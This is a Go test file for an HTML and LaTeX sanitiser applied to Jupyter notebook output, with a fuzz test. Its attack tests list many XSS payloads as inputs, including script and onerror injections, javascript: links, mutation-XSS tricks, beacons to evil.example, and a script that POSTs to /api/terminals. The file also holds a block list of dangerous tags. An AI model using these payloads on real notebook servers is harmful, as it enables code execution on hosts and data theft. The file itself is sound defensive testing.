package jupyter

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/unitask/unitask/internal/attack"
)

// show returns the forms of one form.
func show(t *testing.T, kind, text string) map[string]any {
	t.Helper()
	value, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	return (&server{}).forms(map[string]json.RawMessage{kind: value})
}

// What people show in notebooks stays as it is.
func TestForms(t *testing.T) {
	pandas := `<div>
<style scoped>
    .dataframe tbody tr th:only-of-type {
        vertical-align: middle;
    }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;"><th></th><th>a &amp; b</th></tr>
  </thead>
</table>
<p>3 rows × 2 columns</p>
</div>`
	for _, c := range []struct{ kind, text, as, want string }{
		{"text/plain", "<b>\x1b[31m", "text/plain", "<b>\x1b[31m"},
		{"image/png", "aGk=\n", "image/png", "aGk="},
		{"text/html", "<b title=\"x\">bold</b> &lt; <br>", "text/html", "<b title=\"x\">bold</b> &lt; <br>"},
		{"text/html", pandas, "text/html", strings.ReplaceAll(pandasStyle.ReplaceAllString(pandas, ""), "&amp;", "&amp;")},
		{"text/html", `<img src="data:image/png;base64,aGk=" alt="x">`, "text/html",
			`<img src="data:image/png;base64,aGk=" alt="x">`},
		{"text/markdown", "# A *title*\n$\\alpha$", "text/markdown", "# A *title*\n$\\alpha$"},
		{"text/latex", `$\frac{1}{2}$`, "text/latex", `$\frac{1}{2}$`},
		{"text/latex", `$\displaystyle \left[\begin{matrix}1 & x\\0 & \mathtt{\text{y}}\end{matrix}\right]$`, "text/latex",
			`$\displaystyle \left[\begin{matrix}1 & x\\0 & \mathtt{\text{y}}\end{matrix}\right]$`},
	} {
		if got := show(t, c.kind, c.text); got[c.as] != c.want || len(got) != 1 {
			t.Errorf("%s %q: %q, want %q", c.kind, c.text, got, c.want)
		}
	}
	styled := show(t, "text/html", `<style>#a{color:red}</style><p id="a" style="color:red">red`)["text/html"].(string)
	for _, part := range []string{`<iframe sandbox="" srcdoc="&lt;meta`, `&lt;style&gt;#a{color:red}&lt;/style&gt;`,
		`id=&#34;a&#34;`} {
		if !strings.Contains(styled, part) {
			t.Errorf("%s lacks %s", styled, part)
		}
	}
	whole := (&server{}).forms(map[string]json.RawMessage{"application/json": json.RawMessage(`{"a":[1]}`)})
	if got, _ := json.Marshal(whole); string(got) != `{"application/json":{"a":[1]}}` {
		t.Errorf("%s", got)
	}
	trusted := (&server{Options: Options{TrustOutput: true}}).forms(map[string]json.RawMessage{
		"application/javascript": json.RawMessage(`"alert(1)"`)})
	if len(trusted) != 1 {
		t.Errorf("%v", trusted)
	}
}

// fetching are attributes with addresses.
const fetching = " href srcset action data formaction xlink:href background poster "

// harmless checks HTML as a browser would read it: no script, nothing to fetch, and frames without any right. It
// returns what it finds.
func harmless(text string) string {
	root, err := html.Parse(strings.NewReader(text))
	if err != nil {
		return err.Error()
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if has(" script link meta base object embed form input svg math template noscript audio video source ", n.Data) {
			return "an element " + n.Data
		}
		attributes := map[string]string{}
		for _, a := range n.Attr {
			attributes[a.Key] = a.Val
			if strings.HasPrefix(a.Key, "on") || has(fetching, a.Key) ||
				a.Key == "src" && !strings.HasPrefix(a.Val, "data:image/") {
				return "an attribute " + a.Key
			}
		}
		if n.Data != "iframe" {
			continue
		}
		inner, ok := strings.CutPrefix(attributes["srcdoc"], framePolicy)
		if sandbox, has := attributes["sandbox"]; !ok || !has || sandbox != "" {
			return "a frame with rights"
		}
		if found := harmless(inner); found != "harmless" {
			return found
		}
	}
	return "harmless"
}

// Output of hostile code runs no script in the page of Jupyter, where scripts start programs on the host. It fetches
// nothing, which would carry data past the policy.
func TestAttackOutput(t *testing.T) {
	for _, text := range []string{
		`<script>fetch('/api/terminals', {method: 'POST'})</script>`, `<img src=x onerror="alert(1)">`,
		`<img src="https://evil.example/?secret">`, `<b onclick=alert(1)>`, `<a href="javascript:alert(1)">x</a>`,
		`<iframe src="/lab"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<svg onload=alert(1)>`,
		`<svg><style><p><link rel=dns-prefetch href=//secret.evil.example>`, `<math><mtext><img src=x onerror=alert(1)>`,
		`<link rel=stylesheet href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<base href=//evil.example>`, `<object data=//evil.example>`, `<form action=//evil.example><input>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<style><img src="</style><img src=x onerror=alert(1)>">`,
		`<textarea><img title="</textarea><script>alert(1)</script>">`, `<template><script>alert(1)</script></template>`,
		`<title><img title="</title><script>alert(1)</script>">`, `<xmp><img title="</xmp><script>alert(1)</script>">`,
		`<plaintext><script>`, `"></iframe><script>alert(1)</script>`, `<style title=x></style><script>x</script>`,
		`<p style="background:url(//evil.example)">x`, `<div style="position:fixed">`, `<style/><script>alert(1)</script>`,
		`<!--><script>alert(1)</script>-->`, `<<script>script>alert(1)</script>`, "<scr\x00ipt>alert(1)</script>",
		`<video poster=//evil.example><source src=//evil.example>`, `<table background=//evil.example>`,
		`$\href{javascript:alert(1)}{x}$`, `<p>\\(\href{javascript:alert(1)}{x}\\)`,
	} {
		shown := fmt.Sprint(show(t, "text/html", text)["text/html"])
		got := harmless(shown)
		if strings.Contains(shown, `\href`) {
			got = "a link in a formula"
		}
		attack.Check(t, "HTML in Jupyter: "+text, "harmless", got)
	}
	for _, c := range []struct{ kind, text, want string }{
		{"application/javascript", "alert(1)", "text/plain"}, {"application/vnd.plotly.v1+json", "{}", "text/plain"},
		{"application/vnd.jupyter.widget-view+json", "{}", "text/plain"}, {"application/pdf", "JVBERg==", "text/plain"},
		{"text/x-unknown", "x", "text/plain"}, {"image/png", `x" onerror="alert(1)`, ""},
		{"image/svg+xml", `<svg onload="alert(1)"/>`, "text/html"},
		{"text/markdown", "<script>alert(1)</script>", "text/html"},
		{"text/markdown", "[x](javascript:alert(1))", "text/html"}, {"text/markdown", "![x](//evil.example/?s)", "text/html"},
		{"text/markdown", "&#91;x](javascript:alert(1))", "text/html"},
		{"text/latex", `$\href{javascript:x}{y}$`, "text/html"},
		{"text/latex", `<img src=x onerror=alert(1)>`, "text/html"}, {"text/latex", `$\let\x\HREF$`, "text/html"},
	} {
		list := show(t, c.kind, c.text)
		got := ""
		for kind, value := range list {
			got = kind
			if kind == "text/html" && harmless(value.(string)) != "harmless" {
				got = harmless(value.(string))
			}
		}
		attack.Check(t, fmt.Sprintf("Jupyter: %s %s", c.kind, c.text), c.want, got)
	}
	meta := (&server{}).metadata(map[string]json.RawMessage{"text/html": json.RawMessage(`{"isolated":false}`),
		"image/png": json.RawMessage(`{"width":5,"onload":"x"}`), "trusted": json.RawMessage("true")})
	got, _ := json.Marshal(meta)
	attack.Check(t, "Jupyter: metadata", `{"image/png":{"width":5}}`, string(got))
}

// FuzzHTML rewrites HTML: what comes out is harmless to a browser.
func FuzzHTML(f *testing.F) {
	f.Add(`<table><tr><td style="text-align: left">x</td><script>alert(1)</script>`)
	f.Add(`<svg><style><p><img src=x onerror=alert(1)>`)
	f.Fuzz(func(t *testing.T, text string) {
		if found := harmless(safeHTML(text)); found != "harmless" {
			t.Errorf("%q: %s in %q", text, found, safeHTML(text))
		}
	})
}

// Formulas and diagrams that link, style or fetch do not reach the page of Jupyter.
func TestAttackFormulas(t *testing.T) {
	for _, c := range []struct{ name, kind, text string }{
		{"a command with a comment in it", "text/html", `<p>$\hr<!-- -->ef{javascript:alert(1)}{x}$</p>`},
		{"a command with an end tag in it", "text/html", `<p>$\hr</b>ef{javascript:alert(1)}{x}$</p>`},
		{"a command with a cell outside of a table in it", "text/html", `$\hr<td>ef{javascript:alert(1)}{x}$`},
		{"a box with a background", "text/latex", `$\bbox[background:url(http://a.example/)]{x}$`},
		{"a frame with a background", "text/latex", `$\fcolorbox{red;background:url(http://a.example/)}{white}{x}$`},
		{"a command of an extension that no list has", "text/latex", `$\enclose{x}[style="background:url(//a.example)"]{y}$`},
		{"a block of an extension", "text/latex", `$\begin{CD}a\end{CD}$`},
		{"a definition", "text/latex", `$\edef\x{\string\href}$`},
		{"a color with a style behind it", "text/html", `<p>$\color{red;background:url(http://a.example/)}x$</p>`},
		{"a diagram with a picture", "text/markdown",
			"```Mermaid\nflowchart\nA@{ img: \"http://a.example/x.png\" }\n```"},
	} {
		got := "stopped"
		for kind, text := range show(t, c.kind, c.text) {
			if page := fmt.Sprint(text); kind == c.kind && !strings.HasPrefix(page, "<iframe") {
				got = "shown: " + page
			}
		}
		attack.Check(t, c.name, "stopped", got)
	}
}
